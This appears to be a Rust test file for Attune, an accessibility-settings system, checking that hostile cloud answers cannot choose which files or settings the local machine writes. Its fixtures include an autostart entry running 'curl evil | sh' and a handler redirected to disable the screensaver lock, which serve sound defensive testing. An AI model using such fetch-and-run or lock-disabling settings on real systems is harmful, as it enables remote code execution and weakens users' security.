//! A cloud's answer decides which values a person wants, never what this computer writes or how
//! (docs/design.md §10.1, issue 12 item 1). Each case takes a legitimate answer (computed by the
//! matchmaker from the bundled registry, as Attune's cloud computes it) and makes its
//! `solutionsRegistryEntries` or `matchMakerOutput` hostile; the instructions must still come
//! only from the bundled registry, the hostile request must be reported as not supported here,
//! and the legitimate text size must still apply.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use attune_model::bundled;
use attune_model::device::DeviceReport;
use attune_model::lifecycle::LifecycleInstructions;
use attune_model::matchmaker::{instructions_from_cloud_answer, match_and_transform};
use attune_model::prefs::PreferenceSet;
use attune_model::registry::SolutionsRegistry;
use serde_json::{json, Value};

const CTX: &str = "gpii-default";
const FONT: &str = "http://registry.gpii.net/common/fontSize";
const APPS: &str = "http://registry.gpii.net/applications/";
const INTERFACE: &str = "org.gnome.desktop.interface";
const HIGH_CONTRAST: &str = "org.gnome.desktop.a11y.interface";
const EVIL: &str = "net.example.evil";

fn local() -> SolutionsRegistry {
    bundled::linux_registry().unwrap()
}

/// Attune's cloud's answer for a person who wants 18-point text and high contrast.
fn legitimate_answer() -> Value {
    let registry = local();
    let device = DeviceReport::linux(registry.solutions.keys().cloned());
    let prefs = PreferenceSet::from_value_named(
        json!({"flat": {"contexts": {CTX: {"preferences": {
            FONT: 18,
            "http://registry.gpii.net/common/highContrast/enabled": true
        }}}}}),
        "person",
    )
    .unwrap();
    let o = match_and_transform(&prefs, CTX, &registry, &device).unwrap();
    json!({
        "gpiiKey": "person",
        "preferences": o.filtered_preferences,
        "solutionsRegistryEntries": o.registry_entries.as_ref(),
        "matchMakerOutput": o.matchmaker_output,
    })
}

fn applications(answer: &mut Value) -> &mut serde_json::Map<String, Value> {
    answer["matchMakerOutput"]["inferredConfiguration"][CTX]["applications"]
        .as_object_mut()
        .unwrap()
}

/// Asks for `settings` in solution `id`'s application block (the solution stays chosen).
fn ask(answer: &mut Value, id: &str, settings: Value) {
    let app = applications(answer)
        .entry(id.to_owned())
        .or_insert_with(|| json!({"active": true, "settings": {}}));
    app["settings"][format!("{APPS}{id}")] = settings;
}

/// A registry entry whose one settings handler writes `settings` through `handler`.
fn entry(handler: Value, supported: &[&str]) -> Value {
    let supported: serde_json::Map<String, Value> = supported
        .iter()
        .map(|s| ((*s).to_owned(), json!({"schema": {}})))
        .collect();
    let mut h = handler;
    h["supportedSettings"] = Value::Object(supported);
    json!({"name": "hostile", "settingsHandlers": {"configuration": h}})
}

/// Every handler and launch in `li` is exactly the local registry's for that solution.
fn only_local_targets(li: &LifecycleInstructions, local: &SolutionsRegistry) {
    for (id, sol) in &li.solutions {
        let e = local
            .get(id)
            .unwrap_or_else(|| panic!("instructions for `{id}`, which the local registry lacks"));
        for (name, h) in &sol.settings_handlers {
            let spec = &e.settings_handlers[name];
            assert_eq!(h.handler_type, spec.handler_type, "{id}.{name}");
            assert_eq!(h.options, spec.options, "{id}.{name}");
            for setting in h.settings.keys() {
                assert!(
                    spec.supported_settings.contains_key(setting),
                    "{id}.{name}: `{setting}` is not in the local supportedSettings"
                );
            }
        }
        if let Some(l) = &sol.launch {
            let spec = e.launch_handlers.values().next().unwrap();
            assert_eq!(
                (&l.handler_type, &l.options),
                (&spec.handler_type, &spec.options)
            );
        }
    }
}

fn text_size(li: &LifecycleInstructions) -> Option<&Value> {
    li.solutions
        .get(INTERFACE)?
        .settings_handlers
        .get("configuration")?
        .settings
        .get("text-scaling-factor")
}

#[test]
fn registry_entries_in_an_answer_never_choose_what_is_written() {
    type Attack = fn(&mut Value);
    let cases: &[(&str, Attack, &str, &str)] = &[
        (
            "a new solution id whose handler writes an autostart file with an Exec= line",
            |a| {
                a["solutionsRegistryEntries"][EVIL] = entry(
                    json!({"type": "gpii.settingsHandlers.INISettingsHandler",
                           "options": {"filename": "${XDG_CONFIG_HOME}/autostart/x.desktop"}}),
                    &["Desktop Entry.Exec", "Desktop Entry.Type"],
                );
                ask(
                    a,
                    EVIL,
                    json!({"Desktop Entry.Exec": "sh -c 'curl evil | sh'", "Desktop Entry.Type": "Application"}),
                );
            },
            "http://registry.gpii.net/applications/net.example.evil",
            "the cloud asked for `net.example.evil`, which this computer's solutions registry does not know",
        ),
        (
            "a known solution's handler redirected to an arbitrary JSON file",
            |a| {
                a["solutionsRegistryEntries"][INTERFACE] = entry(
                    json!({"type": "gpii.settingsHandlers.JSONSettingsHandler",
                           "options": {"filename": "${HOME}/anything.json"},
                           "capabilitiesTransformations": {"size": "http://registry\\.gpii\\.net/common/fontSize"}}),
                    &["size", "payload"],
                );
                ask(a, INTERFACE, json!({"payload": {"any": "thing"}}));
            },
            "http://registry.gpii.net/applications/org.gnome.desktop.interface",
            "the cloud asked to set `payload`, which this computer's registry does not know for `org.gnome.desktop.interface`",
        ),
        (
            "a known solution's handler redirected to another GSettings schema and key",
            |a| {
                a["solutionsRegistryEntries"][HIGH_CONTRAST] = entry(
                    json!({"type": "gpii.gsettings",
                           "options": {"schema": "org.gnome.desktop.screensaver"}}),
                    &["lock-enabled"],
                );
                ask(a, HIGH_CONTRAST, json!({"lock-enabled": false}));
            },
            "http://registry.gpii.net/applications/org.gnome.desktop.a11y.interface",
            "the cloud asked to set `lock-enabled`, which this computer's registry does not know for `org.gnome.desktop.a11y.interface`",
        ),
        (
            "a known solution asked to carry a term its local entry does not use",
            |a| {
                applications(a)[INTERFACE]["settings"]
                    ["http://registry.gpii.net/common/screenReaderTTS/enabled"] = json!(true);
            },
            "http://registry.gpii.net/common/screenReaderTTS/enabled",
            "the cloud asked `org.gnome.desktop.interface` to carry this term, which this computer's registry entry for it does not use",
        ),
        (
            "registry entries that are not even entries",
            |a| {
                a["solutionsRegistryEntries"][INTERFACE] = json!({"name": 3, "settingsHandlers": []});
            },
            "",
            "",
        ),
    ];
    let local = local();
    let legit =
        instructions_from_cloud_answer(&legitimate_answer(), CTX, &local, "answer").unwrap();
    assert_eq!(text_size(&legit), Some(&json!(1.5)), "{legit:#?}");
    assert!(legit.unsupported.is_empty(), "{:?}", legit.unsupported);

    for (name, attack, term, reason) in cases {
        let mut answer = legitimate_answer();
        attack(&mut answer);

        let li = instructions_from_cloud_answer(&answer, CTX, &local, "answer")
            .unwrap_or_else(|e| panic!("{name}: {e}"));

        only_local_targets(&li, &local);
        assert_eq!(
            li.solutions, legit.solutions,
            "{name}: the legitimate settings"
        );
        assert_eq!(text_size(&li), Some(&json!(1.5)), "{name}");
        let reported: Vec<(&str, &str)> = li
            .unsupported
            .iter()
            .map(|u| (u.term.as_str(), u.reason.as_str()))
            .collect();
        let expected: Vec<(&str, &str)> = if term.is_empty() {
            Vec::new()
        } else {
            vec![(*term, *reason)]
        };
        assert_eq!(reported, expected, "{name}");
    }
}

#[test]
fn values_are_checked_against_the_local_schemas_not_the_answers() {
    let mut answer = legitimate_answer();
    // The answer widens the range of cursor-size and asks for a huge one.
    answer["solutionsRegistryEntries"][INTERFACE]["settingsHandlers"]["configuration"]
        ["supportedSettings"]["cursor-size"]["schema"] = json!({"type": "integer"});
    ask(&mut answer, INTERFACE, json!({"cursor-size": 5000}));
    let local = local();

    let li = instructions_from_cloud_answer(&answer, CTX, &local, "answer").unwrap();

    only_local_targets(&li, &local);
    assert_eq!(text_size(&li), Some(&json!(1.5)));
    let dropped: Vec<(&str, &str, &str)> = li
        .invalid
        .iter()
        .map(|i| (i.solution.as_str(), i.setting.as_str(), i.rule.as_str()))
        .collect();
    assert_eq!(dropped.len(), 1, "{dropped:?}");
    assert_eq!(dropped[0].0, INTERFACE);
    assert_eq!(dropped[0].1, "cursor-size");
    assert!(dropped[0].2.contains("128"), "{}", dropped[0].2);
    assert!(!li.solutions[INTERFACE].settings_handlers["configuration"]
        .settings
        .contains_key("cursor-size"));
}

#[test]
fn an_answer_without_registry_entries_is_carried_out_with_the_local_ones() {
    let mut answer = legitimate_answer();
    let with = instructions_from_cloud_answer(&answer, CTX, &local(), "answer").unwrap();
    answer
        .as_object_mut()
        .unwrap()
        .remove("solutionsRegistryEntries");

    let without = instructions_from_cloud_answer(&answer, CTX, &local(), "answer").unwrap();

    assert_eq!(without, with);
}
